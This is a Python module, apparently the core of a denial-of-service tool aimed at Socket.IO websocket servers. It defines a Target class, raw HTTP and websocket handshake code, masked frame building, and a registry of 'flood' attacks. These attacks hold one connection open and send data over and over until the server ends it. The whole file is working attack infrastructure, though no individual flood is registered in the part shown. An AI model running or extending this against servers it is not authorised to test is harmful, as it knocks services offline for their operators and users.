"""What a flood is: a function that attacks a `Target` with one connection until the server ends it."""

from __future__ import annotations

import base64
import os
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

HANDSHAKE = "/socket.io/?EIO=4&transport="
#: A client that is not read from gives up after this and looks whether it should stop.
_PATIENCE_S = 0.5


class Target:
    """The server under attack, and how long: until `stop()` is called or `seconds` are over. `source` is the
    address that the attack comes from, one of this machine."""

    def __init__(self, url: str, seconds: float, source: str = "") -> None:
        address = urlsplit(url)
        self.host, self.port = str(address.hostname), int(address.port or 80)
        self._until = time.monotonic() + seconds
        self._stopped = False
        self._source = source

    def stop(self) -> None:
        self._stopped = True

    @property
    def goes_on(self) -> bool:
        return not self._stopped and time.monotonic() < self._until

    def connect(self) -> socket.socket:
        line = socket.create_connection((self.host, self.port), 10, (self._source, 0))
        line.settimeout(_PATIENCE_S)
        return line

    def websocket(self, query: str = "", greet: bool = True) -> socket.socket:
        """A websocket as anybody may open one, with `40` sent and nothing read."""
        line = self.connect()
        key = base64.b64encode(os.urandom(16)).decode()
        head = (
            f"GET {HANDSHAKE}websocket{query} HTTP/1.1\r\nHost: {self.host}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        self.send(line, head.encode())
        self.read(line, lambda got: b"\r\n\r\n" in got)
        if greet:
            self.send(line, text("40"))
        return line

    def ask(self, method: str, path: str, body: bytes = b"") -> bytes:
        """One request on a connection of its own; the whole answer, empty if there is none."""
        with self.connect() as line:
            head = f"{method} {path} HTTP/1.1\r\nHost: {self.host}\r\nConnection: close\r\n"
            self.send(line, f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
            return self.read(line, lambda got: False)

    def send(self, line: socket.socket, data: bytes) -> None:
        """Send all of it, also to a server that reads slowly; OSError once the server has ended it."""
        rest = memoryview(data)
        while rest and self.goes_on:
            try:
                rest = rest[line.send(rest) :]
            except TimeoutError:
                continue

    def read(self, line: socket.socket, enough: Callable[[bytes], bool]) -> bytes:
        """What comes until it is enough or the server ends it."""
        got = b""
        while self.goes_on and not enough(got):
            try:
                piece = line.recv(65536)
            except TimeoutError:
                continue
            if not piece:
                break
            got += piece
        return got

    def flood(self, line: socket.socket, data: bytes) -> None:
        """Send it again and again, and read away what is answered; OSError once the server has ended it."""
        many = data * max(1, 60_000 // len(data))
        while self.goes_on:
            self.send(line, many)
            self.take(line)

    def rest(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        while self.goes_on and time.monotonic() < end:
            time.sleep(0.05)

    def take(self, line: socket.socket) -> None:
        """Read away what has come; OSError once the server has ended it."""
        line.setblocking(False)
        try:
            while line.recv(65536):
                pass
            raise ConnectionError("ended")
        except BlockingIOError:
            pass
        finally:
            line.settimeout(_PATIENCE_S)


@dataclass(frozen=True)
class Flood:
    """One attack. `connections` run it at once; one that is `patient` may be held for a minute or more."""

    name: str
    run: Callable[[Target], None]
    connections: int
    patient: bool

    def once(self, target: Target) -> bool:
        """Attack with one connection; whether the server ended it before the attack itself was over."""
        try:
            self.run(target)
        except OSError:
            return target.goes_on
        return target.goes_on


FLOODS: dict[str, Flood] = {}


def flood(
    name: str, connections: int = 1, patient: bool = False
) -> Callable[[Callable[[Target], None]], None]:
    """Register the function below under this name."""

    def register(run: Callable[[Target], None]) -> None:
        assert name not in FLOODS, name
        FLOODS[name] = Flood(name, run, connections, patient)

    return register


def frame(opcode: int, payload: bytes, final: bool = True, first: int = 0) -> bytes:
    """A frame of a client, masked with zeros; `first` are further bits of its first byte."""
    head = bytes([(0x80 if final else 0) | opcode | first])
    if len(payload) < 126:
        head += bytes([0x80 | len(payload)])
    elif len(payload) < 65536:
        head += bytes([0x80 | 126]) + struct.pack(">H", len(payload))
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", len(payload))
    return head + b"\0\0\0\0" + payload


def text(content: str) -> bytes:
    return frame(1, content.encode())
